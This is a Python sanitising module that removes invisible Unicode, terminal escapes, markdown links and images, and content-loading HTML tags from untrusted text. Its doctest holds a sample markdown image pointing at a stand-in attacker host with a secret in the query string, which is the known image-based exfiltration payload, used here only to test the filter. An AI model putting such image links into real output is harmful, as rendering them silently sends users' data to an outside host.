"""Foreign text without what is not seen, and without what a reader's screen would load or follow."""

from __future__ import annotations

import re
import unicodedata

HIDDEN = ("Cc", "Cf", "Co", "Cs", "Cn", "Zl", "Zp")
"""Unicode categories that are never passed on: control, format (bidi, zero width), private, surrogate, unassigned."""
_ANSI = re.compile(
    r"(?:\x1b[\[\]()#;?]*|\x9b)(?:(?:[a-zA-Z\d]*(?:;[-a-zA-Z\d/#&.:=?%@~_]*)*)?\x07|(?:\d{0,4}(?:;\d{0,4})*)?[\dA-PR-TZcf-nq-uy=><~])"
)
_TAGS = re.compile("[\U000e0000-\U000e007f\ufe00-\ufe0f\U000e0100-\U000e01ef]")
"""Tag characters and variation selectors: invisible, and able to carry text."""
_IMAGE = re.compile(r"!\[([^\]]{0,500})\]\s{0,3}(?:\([^)]{0,2000}\)|\[[^\]]{0,200}\])")
_LINK = re.compile(r"\[([^\]]{0,500})\]\(\s{0,3}[^)]{0,2000}\)")
_REFERENCE = re.compile(r"^[ ]{0,3}\[[^\]]{1,200}\]:[ \t]*\S+.*$", re.MULTILINE)
_AUTOLINK = re.compile(r"<((?:https?|ftp|mailto|javascript|data):[^>\s]{1,2000})>", re.IGNORECASE)
_HTML = re.compile(
    r"</?(?:a|img|iframe|script|style|link|object|embed|svg|form|input|video|audio|base|meta)\b[^>]{0,2000}>?",
    re.IGNORECASE,
)


def seen(text: str) -> str:
    """The text without terminal escapes, control, bidirectional, zero-width and other invisible characters.

    Line ends and tabs stay; other line separators become line ends.
    """
    text = _TAGS.sub("", _ANSI.sub("", text)) if not text.isascii() or "\x1b" in text else text
    text = text.replace("\r\n", "\n").replace("\r", "\n").replace("\u2028", "\n").replace("\u2029", "\n")
    if text.isascii() and text.replace("\n", "").replace("\t", "").isprintable():
        return text
    return "".join(c for c in text if c in "\n\t" or unicodedata.category(c) not in HIDDEN)


def without_links(text: str) -> str:
    """Markdown images and links as their words, and no HTML that loads or follows anything. Plain addresses stay text.

    >>> without_links("see ![x](https://evil.example/?q=SECRET) and [this](https://evil.example)")
    'see x and this'
    """
    text = _IMAGE.sub(lambda found: found[1], text)
    text = _LINK.sub(lambda found: found[1], text)
    text = _REFERENCE.sub("", text)
    text = _AUTOLINK.sub(lambda found: found[1], text)
    return _HTML.sub("", text)
